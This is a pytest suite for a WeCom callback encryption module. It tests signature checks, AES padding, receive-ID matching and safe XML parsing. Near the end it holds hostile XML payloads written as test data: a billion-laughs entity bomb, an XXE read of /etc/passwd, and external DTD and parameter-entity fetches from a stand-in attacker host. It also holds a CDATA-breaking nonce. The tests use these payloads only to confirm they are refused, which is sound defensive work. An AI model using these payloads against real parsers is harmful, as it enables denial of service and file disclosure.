"""WeCom callback crypto (WECOM.md §2): the official vector, properties, and every refusal.

Pure tests: no Django, no database. A second, test-local implementation written directly on
cryptography's primitives cross-checks the module, so a shared misunderstanding in both the code
and its round-trip tests (e.g. padding to 16 instead of 32) cannot pass unnoticed.
"""

from __future__ import annotations

import base64
import hashlib
import string
import struct
import xml.etree.ElementTree as StdET
from urllib.parse import parse_qs, quote, unquote, urlencode

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given, settings
from hypothesis import strategies as st

from siyu.wecom.crypto import (
    CallbackCipher,
    CallbackCryptoError,
    Reason,
    parse_xml,
    signature,
    verify_signature,
)

# The official sample from WeCom's docs (doc 91144), for an in-house app.
TOKEN = "QDG6eK"
CORP_ID = "wx5823bf96d3bd56c7"
ENCODING_AES_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
MSG_SIGNATURE = "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3"
TIMESTAMP = "1409659589"
NONCE = "263014780"
ECHOSTR = "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="
ECHO_PLAINTEXT = "1616140317555161061"

INNER_EVENT = (
    b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>"
    b"<FromUserName><![CDATA[sys]]></FromUserName><CreateTime>1403610513</CreateTime>"
    b"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[change_external_contact]]></Event>"
    b"<ChangeType><![CDATA[add_external_contact]]></ChangeType>"
    b"<UserID><![CDATA[zhangsan]]></UserID><ExternalUserID><![CDATA[woAJ2GCAAAXtWyujaWJHDDGi0mACH71w]]>"
    b"</ExternalUserID><WelcomeCode><![CDATA[WELCOMECODE]]></WelcomeCode></xml>"
)

receive_ids = st.text(alphabet=string.ascii_letters + string.digits, min_size=1, max_size=64)


def official_cipher(receive_id: str = CORP_ID) -> CallbackCipher:
    return CallbackCipher(TOKEN, ENCODING_AES_KEY, receive_id)


# --- an independent reference implementation, straight on cryptography's primitives -------


def ref_key() -> bytes:
    return base64.b64decode(ENCODING_AES_KEY + "=")


def ref_aes(encrypt: bool, data: bytes) -> bytes:
    key = ref_key()
    cipher = Cipher(algorithms.AES(key), modes.CBC(key[:16]))
    op = cipher.encryptor() if encrypt else cipher.decryptor()
    return op.update(data) + op.finalize()


def ref_decrypt(encrypted: str) -> tuple[bytes, bytes, int]:
    """(message, receive_id, pad) decoded by hand, trusting nothing from the module."""
    plain = ref_aes(False, base64.b64decode(encrypted))
    pad = plain[-1]
    content = plain[:-pad]
    (length,) = struct.unpack(">I", content[16:20])
    return content[20 : 20 + length], content[20 + length :], pad


def ref_encrypt_raw(padded_plaintext: bytes) -> str:
    """Encrypt an already-laid-out plaintext, so tests can forge bad padding or lengths."""
    return base64.b64encode(ref_aes(True, padded_plaintext)).decode()


def ref_layout(message: bytes, receive_id: bytes, prefix: bytes = b"\x00" * 16) -> bytes:
    body = prefix + struct.pack(">I", len(message)) + message + receive_id
    pad = 32 - len(body) % 32
    return body + bytes([pad]) * pad


def assert_refused(reason: Reason, exc_info: pytest.ExceptionInfo[CallbackCryptoError]) -> None:
    assert exc_info.value.reason is reason
    assert str(exc_info.value)  # a readable message, not an empty one


# --- the official vector -------------------------------------------------------------------


def test_official_sample_signature_matches_the_documented_msg_signature():
    assert signature(TOKEN, TIMESTAMP, NONCE, ECHOSTR) == MSG_SIGNATURE
    # And the hash as the doc spells it, independently of the module.
    joined = "".join(sorted([TOKEN, TIMESTAMP, NONCE, ECHOSTR])).encode()
    assert hashlib.sha1(joined).hexdigest() == MSG_SIGNATURE  # noqa: S324


def test_official_sample_url_verification_answers_plaintext():
    answer = official_cipher().verify_url(MSG_SIGNATURE, TIMESTAMP, NONCE, ECHOSTR)
    assert answer == ECHO_PLAINTEXT
    assert isinstance(answer, str)


def test_official_sample_decrypts_the_same_with_the_reference_implementation():
    message, receive_id, pad = ref_decrypt(ECHOSTR)
    assert message.decode() == ECHO_PLAINTEXT
    assert receive_id.decode() == CORP_ID
    assert official_cipher().decrypt(ECHOSTR) == message
    # 16 + 4 + 19 + 18 = 57 bytes, padded to 64: the pad proves blocks of 32, not 16.
    assert pad == 7


def test_official_sample_url_verification_works_from_a_url_encoded_query():
    query = (
        f"msg_signature={MSG_SIGNATURE}&timestamp={TIMESTAMP}&nonce={NONCE}"
        f"&echostr={quote(ECHOSTR)}"
    )
    assert "+" not in query and "%2B" in query  # "+" must arrive encoded, or it becomes " "
    params = {name: values[0] for name, values in parse_qs(query, strict_parsing=True).items()}
    assert params["echostr"] == ECHOSTR
    answer = official_cipher().verify_url(
        params["msg_signature"], params["timestamp"], params["nonce"], params["echostr"]
    )
    assert answer == ECHO_PLAINTEXT


def test_official_sample_url_verification_works_with_every_character_escaped():
    encoded = urlencode({"echostr": ECHOSTR})  # escapes "/", "+" and "=" alike
    echostr = unquote(quote(ECHOSTR, safe=""))
    assert parse_qs(encoded)["echostr"] == [echostr] == [ECHOSTR]
    assert official_cipher().verify_url(MSG_SIGNATURE, TIMESTAMP, NONCE, echostr) == ECHO_PLAINTEXT


def test_official_sample_with_another_corp_id_is_refused_as_wrong_receive_id():
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher("wwsomeoneelse").verify_url(MSG_SIGNATURE, TIMESTAMP, NONCE, ECHOSTR)
    assert_refused(Reason.WRONG_RECEIVE_ID, exc_info)


# --- properties ----------------------------------------------------------------------------


@given(message=st.binary(max_size=4096), receive_id=receive_ids)
def test_any_message_round_trips_for_any_receive_id(message, receive_id):
    cipher = official_cipher(receive_id)
    assert cipher.decrypt(cipher.encrypt(message)) == message


@given(message=st.binary(max_size=4096), receive_id=receive_ids)
def test_ciphertext_is_whole_32_byte_blocks_that_the_reference_decrypts(message, receive_id):
    encrypted = official_cipher(receive_id).encrypt(message)
    raw = base64.b64decode(encrypted)
    unpadded = 16 + 4 + len(message) + len(receive_id)
    assert len(raw) % 32 == 0
    assert len(raw) == (unpadded // 32 + 1) * 32  # always 1..32 bytes of padding
    assert ref_decrypt(encrypted) == (message, receive_id.encode(), len(raw) - unpadded)


@given(message=st.binary(max_size=1024), receive_id=receive_ids)
def test_the_module_decrypts_what_the_reference_encrypts(message, receive_id):
    encrypted = ref_encrypt_raw(ref_layout(message, receive_id.encode(), b"\x5a" * 16))
    assert official_cipher(receive_id).decrypt(encrypted) == message


@given(prefix=st.binary(min_size=16, max_size=16), message=st.binary(max_size=256))
def test_a_fixed_random_prefix_gives_the_reference_ciphertext(prefix, message):
    ours = official_cipher().encrypt(message, random_prefix=prefix)
    assert ours == ref_encrypt_raw(ref_layout(message, CORP_ID.encode(), prefix))


def test_encryption_uses_a_fresh_random_prefix_each_time():
    cipher = official_cipher()
    assert cipher.encrypt(b"same") != cipher.encrypt(b"same")


def test_random_prefix_of_the_wrong_size_is_a_programming_error():
    with pytest.raises(ValueError, match="16 bytes"):
        official_cipher().encrypt(b"x", random_prefix=b"short")


@settings(max_examples=300)
@given(message=st.binary(max_size=200), data=st.data())
def test_tampered_ciphertext_raises_only_callback_crypto_error(message, data):
    cipher = official_cipher()
    encrypted = cipher.encrypt(message)
    msg_signature = signature(TOKEN, TIMESTAMP, NONCE, encrypted)
    raw = bytearray(base64.b64decode(encrypted))
    index = data.draw(st.integers(0, len(raw) - 1), label="index")
    raw[index] ^= data.draw(st.integers(1, 255), label="flip")
    tampered = base64.b64encode(raw).decode()
    # Without a MAC, a flip inside the message can decrypt to other bytes (the signature
    # guards that, see below); anything else must be a CallbackCryptoError, never a crash.
    try:
        cipher.decrypt(tampered)
    except CallbackCryptoError as exc:
        assert exc.reason in {Reason.UNDECRYPTABLE, Reason.WRONG_RECEIVE_ID}
    # Behind the signature, any tampering at all is refused.
    with pytest.raises(CallbackCryptoError) as exc_info:
        cipher.verify_url(msg_signature, TIMESTAMP, NONCE, tampered)
    assert_refused(Reason.BAD_SIGNATURE, exc_info)


@given(message=st.binary(max_size=200), data=st.data())
def test_tampering_with_the_last_block_or_the_length_field_is_always_refused(message, data):
    cipher = official_cipher()
    raw = bytearray(base64.b64decode(cipher.encrypt(message)))
    # Flipping ciphertext byte 0..3 flips the length field; any byte of the last block scrambles
    # the padding and the receive_id tail.
    index = data.draw(
        st.one_of(st.integers(0, 3), st.integers(len(raw) - 16, len(raw) - 1)), label="index"
    )
    raw[index] ^= data.draw(st.integers(1, 255), label="flip")
    with pytest.raises(CallbackCryptoError) as exc_info:
        cipher.decrypt(base64.b64encode(raw).decode())
    assert exc_info.value.reason in {Reason.UNDECRYPTABLE, Reason.WRONG_RECEIVE_ID}


@given(st.binary(max_size=512))
def test_parse_xml_refuses_arbitrary_bytes_only_with_callback_crypto_error(data):
    try:
        parse_xml(data, max_bytes=1024)
    except CallbackCryptoError as exc:
        assert exc.reason is Reason.MALFORMED_XML


# --- refusals ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("token", "timestamp", "nonce", "msg_signature"),
    [
        (TOKEN, TIMESTAMP, NONCE, "0" * 40),
        (TOKEN, TIMESTAMP, NONCE, MSG_SIGNATURE.upper()),
        (TOKEN, TIMESTAMP, NONCE, ""),
        (TOKEN, TIMESTAMP, NONCE, "签名" * 20),  # non-ASCII must not crash compare_digest
        (TOKEN, "1409659590", NONCE, MSG_SIGNATURE),
        (TOKEN, TIMESTAMP, "263014781", MSG_SIGNATURE),
        ("QDG6eL", TIMESTAMP, NONCE, MSG_SIGNATURE),
    ],
)
def test_a_bad_signature_is_refused(token, timestamp, nonce, msg_signature):
    with pytest.raises(CallbackCryptoError) as exc_info:
        verify_signature(token, timestamp, nonce, ECHOSTR, msg_signature)
    assert_refused(Reason.BAD_SIGNATURE, exc_info)


def test_a_good_signature_is_accepted():
    verify_signature(TOKEN, TIMESTAMP, NONCE, ECHOSTR, MSG_SIGNATURE)


def test_url_verification_with_a_bad_signature_is_refused_before_decrypting():
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().verify_url("0" * 40, TIMESTAMP, NONCE, "not base64 at all!")
    assert_refused(Reason.BAD_SIGNATURE, exc_info)


def test_a_message_for_another_receive_id_is_refused():
    encrypted = official_cipher("wwcorpA").encrypt(b"<xml/>")
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher("wwcorpB").decrypt(encrypted)
    assert_refused(Reason.WRONG_RECEIVE_ID, exc_info)


@pytest.mark.parametrize(
    ("sent_to", "configured"),
    [("wwcorpAB", "wwcorpA"), ("wwcorpA", "wwcorpAB"), ("", CORP_ID), ("WWCORPA", "wwcorpA")],
)
def test_a_receive_id_must_match_exactly_not_by_prefix_or_case(sent_to, configured):
    encrypted = ref_encrypt_raw(ref_layout(b"<xml/>", sent_to.encode()))
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher(configured).decrypt(encrypted)
    assert_refused(Reason.WRONG_RECEIVE_ID, exc_info)


@pytest.mark.parametrize(
    "encrypted",
    [
        "",
        "not base64!",
        ECHOSTR[:-2],  # missing base64 padding
        ECHOSTR.replace("+", " "),  # what an unencoded "+" becomes after URL decoding
        base64.b64encode(b"x" * 15).decode(),  # not whole AES blocks
        base64.b64encode(b"x" * 40).decode(),
    ],
)
def test_undecryptable_text_is_refused(encrypted):
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt(encrypted)
    assert_refused(Reason.UNDECRYPTABLE, exc_info)


@pytest.mark.parametrize(
    "padded",
    [
        b"\x00" * 16 + struct.pack(">I", 3) + b"abc" + CORP_ID.encode() + b"\x00" * 23,  # pad 0
        b"\x00" * 31 + b"\x21" * 33,  # pad 33, beyond a 32-byte block
        b"\x00" * 16 + struct.pack(">I", 3) + b"abc" + CORP_ID.encode() + b"\x05" * 22 + b"\x17",
        b"\x00" * 16 + b"\x10" * 16,  # all padding: nothing left for the header
        b"\x00" * 16 + struct.pack(">I", 1000) + b"abc" + CORP_ID.encode() + b"\x17" * 23,
        b"\x00" * 16 + struct.pack(">I", 0xFFFFFFFF) + b"abc" + CORP_ID.encode() + b"\x17" * 23,
    ],
    ids=[
        "pad-zero",
        "pad-too-big",
        "pad-inconsistent",
        "too-short",
        "length-past-end",
        "length-max",
    ],
)
def test_forged_padding_or_length_field_is_refused(padded):
    assert len(padded) % 32 == 0
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt(ref_encrypt_raw(padded))
    assert_refused(Reason.UNDECRYPTABLE, exc_info)


@pytest.mark.parametrize(
    "key",
    [
        ENCODING_AES_KEY[:-1],
        ENCODING_AES_KEY + "A",
        "",
        "!" * 43,  # right length, not base64
        ENCODING_AES_KEY[:-1] + "=",
    ],
)
def test_an_encoding_aes_key_that_is_not_43_base64_characters_is_refused(key):
    with pytest.raises(CallbackCryptoError) as exc_info:
        CallbackCipher(TOKEN, key, CORP_ID)
    assert_refused(Reason.BAD_KEY, exc_info)


@pytest.mark.parametrize("token", ["", "a" * 33, "has space", "tok-en", "令牌"])
def test_a_token_that_is_not_1_to_32_letters_or_digits_is_refused(token):
    with pytest.raises(CallbackCryptoError) as exc_info:
        CallbackCipher(token, ENCODING_AES_KEY, CORP_ID)
    assert_refused(Reason.BAD_KEY, exc_info)


def test_a_32_character_token_is_accepted():
    CallbackCipher("a" * 32, ENCODING_AES_KEY, CORP_ID)


def test_the_cipher_repr_does_not_show_the_key():
    assert ENCODING_AES_KEY not in repr(official_cipher())
    assert "Encrypt" not in repr(official_cipher())


# --- event envelopes -----------------------------------------------------------------------


def signed_event(cipher: CallbackCipher, inner: bytes = INNER_EVENT) -> tuple[str, bytes]:
    return cipher.encrypt_event(inner, TIMESTAMP, NONCE, agent_id=1000002)


def test_encrypt_event_then_decrypt_event_gives_back_the_inner_xml():
    cipher = official_cipher()
    msg_signature, body = signed_event(cipher)
    assert cipher.decrypt_event(msg_signature, TIMESTAMP, NONCE, body) == INNER_EVENT
    assert parse_xml(INNER_EVENT, 4096)["ExternalUserID"] == "woAJ2GCAAAXtWyujaWJHDDGi0mACH71w"


def test_the_event_envelope_has_the_documented_shape():
    cipher = official_cipher()
    msg_signature, body = signed_event(cipher)
    root = StdET.fromstring(body)  # noqa: S314 - our own output; a second parser on purpose
    assert root.tag == "xml"
    assert [child.tag for child in root] == ["ToUserName", "AgentID", "Encrypt"]
    assert root.findtext("ToUserName") == CORP_ID
    assert root.findtext("AgentID") == "1000002"
    encrypted = root.findtext("Encrypt")
    assert msg_signature == signature(TOKEN, TIMESTAMP, NONCE, encrypted)
    assert ref_decrypt(encrypted)[:2] == (INNER_EVENT, CORP_ID.encode())


def test_a_hand_built_event_envelope_decrypts():
    encrypted = ref_encrypt_raw(ref_layout(INNER_EVENT, CORP_ID.encode()))
    body = (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        f"<AgentID><![CDATA[1000002]]></AgentID><Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>"
    ).encode()
    msg_signature = signature(TOKEN, TIMESTAMP, NONCE, encrypted)
    assert official_cipher().decrypt_event(msg_signature, TIMESTAMP, NONCE, body) == INNER_EVENT


def test_an_event_with_a_bad_signature_is_refused():
    cipher = official_cipher()
    _, body = signed_event(cipher)
    with pytest.raises(CallbackCryptoError) as exc_info:
        cipher.decrypt_event(MSG_SIGNATURE, TIMESTAMP, NONCE, body)
    assert_refused(Reason.BAD_SIGNATURE, exc_info)


def test_an_event_signed_for_another_timestamp_is_refused():
    cipher = official_cipher()
    msg_signature, body = signed_event(cipher)
    with pytest.raises(CallbackCryptoError) as exc_info:
        cipher.decrypt_event(msg_signature, "1409659590", NONCE, body)
    assert_refused(Reason.BAD_SIGNATURE, exc_info)


def test_an_event_for_another_corp_is_refused_even_when_correctly_signed():
    msg_signature, body = signed_event(official_cipher("wwothercorp"))
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt_event(msg_signature, TIMESTAMP, NONCE, body)
    assert_refused(Reason.WRONG_RECEIVE_ID, exc_info)


def test_an_oversized_body_is_refused_before_it_is_parsed():
    body = b"<" * (64 * 1024 + 1)  # malformed too, but size is checked first
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt_event(MSG_SIGNATURE, TIMESTAMP, NONCE, body)
    assert_refused(Reason.TOO_LARGE, exc_info)


def test_a_body_at_the_size_limit_is_accepted():
    cipher = official_cipher()
    msg_signature, body = signed_event(cipher)
    assert cipher.decrypt_event(msg_signature, TIMESTAMP, NONCE, body, max_body_bytes=len(body))
    with pytest.raises(CallbackCryptoError) as exc_info:
        cipher.decrypt_event(msg_signature, TIMESTAMP, NONCE, body, max_body_bytes=len(body) - 1)
    assert_refused(Reason.TOO_LARGE, exc_info)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<xml><Encrypt>abc</Encrypt>",
        b"<xml><Encrypt>abc</Encrpyt></xml>",
        b"<xml></xml><xml></xml>",
    ],
)
def test_a_malformed_event_body_is_refused(body):
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt_event(MSG_SIGNATURE, TIMESTAMP, NONCE, body)
    assert_refused(Reason.MALFORMED_XML, exc_info)


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><ToUserName>wx5823bf96d3bd56c7</ToUserName><AgentID>1</AgentID></xml>",
        b"<xml><Encrypt></Encrypt></xml>",
        b"<xml><Wrapper><Encrypt>abc</Encrypt></Wrapper></xml>",  # only direct children count
    ],
)
def test_an_event_without_an_encrypt_element_is_refused(body):
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt_event(MSG_SIGNATURE, TIMESTAMP, NONCE, body)
    assert_refused(Reason.MALFORMED_XML, exc_info)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><Encrypt>&lol9;</Encrypt></xml>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Encrypt>&xxe;</Encrypt></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><Encrypt>abc</Encrypt></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x"> %remote;]>
<xml><Encrypt>abc</Encrypt></xml>"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
)
def test_entity_and_dtd_tricks_are_refused(payload):
    with pytest.raises(CallbackCryptoError) as exc_info:
        parse_xml(payload, max_bytes=64 * 1024)
    assert_refused(Reason.MALFORMED_XML, exc_info)
    with pytest.raises(CallbackCryptoError) as exc_info:
        official_cipher().decrypt_event(MSG_SIGNATURE, TIMESTAMP, NONCE, payload)
    assert_refused(Reason.MALFORMED_XML, exc_info)


# --- parse_xml -----------------------------------------------------------------------------


def test_parse_xml_returns_the_root_children_text_with_cdata_unwrapped():
    data = (
        b"<xml><ToUserName><![CDATA[corp]]></ToUserName><AgentID>1000002</AgentID>"
        b"<Empty/><Spaced>  kept  </Spaced><Nested>head<Inner>deep</Inner></Nested>"
        b"<Dup>first</Dup><Dup>second</Dup></xml>"
    )
    assert parse_xml(data, 1024) == {
        "ToUserName": "corp",
        "AgentID": "1000002",
        "Empty": "",
        "Spaced": "  kept  ",
        "Nested": "head",
        "Dup": "first",
    }


def test_parse_xml_reads_chinese_text():
    data = "<xml><Content><![CDATA[你好，私域]]></Content></xml>".encode()
    assert parse_xml(data, 1024) == {"Content": "你好，私域"}


def test_parse_xml_refuses_a_document_over_the_limit():
    data = b"<xml><A>1</A></xml>"
    assert parse_xml(data, len(data)) == {"A": "1"}
    with pytest.raises(CallbackCryptoError) as exc_info:
        parse_xml(data, len(data) - 1)
    assert_refused(Reason.TOO_LARGE, exc_info)


# --- replies -------------------------------------------------------------------------------


def test_encrypt_reply_produces_a_valid_envelope_whose_signature_verifies():
    cipher = official_cipher()
    reply = "<xml><Content><![CDATA[欢迎]]></Content></xml>".encode()
    envelope = cipher.encrypt_reply(reply, TIMESTAMP, NONCE)

    root = StdET.fromstring(envelope)  # noqa: S314 - our own output; a second parser on purpose
    assert root.tag == "xml"
    assert [child.tag for child in root] == ["Encrypt", "MsgSignature", "TimeStamp", "Nonce"]
    assert b"<Encrypt><![CDATA[" in envelope and b"<Nonce><![CDATA[" in envelope
    assert root.findtext("TimeStamp") == TIMESTAMP
    assert root.findtext("Nonce") == NONCE

    encrypted = root.findtext("Encrypt")
    msg_signature = root.findtext("MsgSignature")
    joined = "".join(sorted([TOKEN, TIMESTAMP, NONCE, encrypted])).encode()
    assert msg_signature == hashlib.sha1(joined).hexdigest()  # noqa: S324
    verify_signature(TOKEN, TIMESTAMP, NONCE, encrypted, msg_signature)
    assert ref_decrypt(encrypted)[:2] == (reply, CORP_ID.encode())
    assert cipher.decrypt(encrypted) == reply


def test_encrypt_reply_refuses_a_nonce_that_would_break_the_cdata():
    with pytest.raises(ValueError, match="CDATA"):
        official_cipher().encrypt_reply(b"<xml/>", TIMESTAMP, "]]><evil/>")
